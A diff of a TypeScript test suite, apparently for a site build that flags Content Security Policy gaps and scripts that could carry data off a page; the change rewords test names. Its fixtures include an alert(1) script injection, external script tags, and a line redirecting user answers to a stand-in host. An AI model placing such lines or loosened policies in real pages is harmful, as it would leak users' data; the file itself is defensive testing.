@@ -13,8 +13,8 @@ function withPolicy(html = HTML): string {
 const openingsIn = (html: string) => openings(parsePage(html, "/page"));
 const changed = (from: string, to: string) => openingsIn(withPolicy().replace(from, to));
 
-describe("H15 what the build looks for in a page's policy", () => {
-  it("is nothing in a page of the site", () => {
+describe("H15 what the build checks in a page's policy", () => {
+  it("finds nothing in a page of the site", () => {
     expect(openingsIn(withPolicy())).toEqual([]);
   });
 
@@ -23,11 +23,11 @@ describe("H15 what the build looks for in a page's policy", () => {
     ["a form", "form-action 'none'", "form-action 'self'"],
     ["a picture from elsewhere", "img-src 'self' data:", "img-src 'self' pixel.example"],
     ["anything", "font-src 'self'", "font-src *"],
-  ])("is %s that could carry something out", (_, from, to) => {
+  ])("finds %s that could carry something out", (_, from, to) => {
     expect(changed(from, to)).not.toEqual([]);
   });
 
-  it("is a page without any policy", () => {
+  it("finds a page without any policy", () => {
     expect(openingsIn(HTML)).not.toEqual([]);
   });
 
@@ -35,12 +35,12 @@ describe("H15 what the build looks for in a page's policy", () => {
     ["inside the page", "<script>alert(1)</script>"],
     ["from another site", '<script src="https://stats.example/a.js"></script>'],
     ["from another site without a protocol", '<script src="//stats.example/a.js"></script>'],
-  ])("a script %s stops the build, which names the page", (_, script) => {
+  ])("a script %s fails the build, which names the page", (_, script) => {
     expect(() => withPolicy(HTML.replace("</body>", `${script}</body>`))).toThrow("/page");
   });
 });
 
-describe("H15 what the build looks for in scripts, which no policy stops", () => {
+describe("H15 what the build checks in scripts, because no policy prevents it", () => {
   it.each([
     "new RTCPeerConnection({iceServers:[]})",
     'location.href="https://stats.example/?a="+answers',
@@ -51,7 +51,7 @@ describe("H15 what the build looks for in scripts, which no policy stops", () =>
   });
 
   it.each(['location.replace("https://www.weather.gov/")', 'location.replace("/")', "location.reload()"])(
-    "is not the way out of the page, which carries nothing: %s",
+    "does not include the quick exit, which carries nothing: %s",
     (script) => {
       expect(waysOut(script)).toEqual([]);
     },
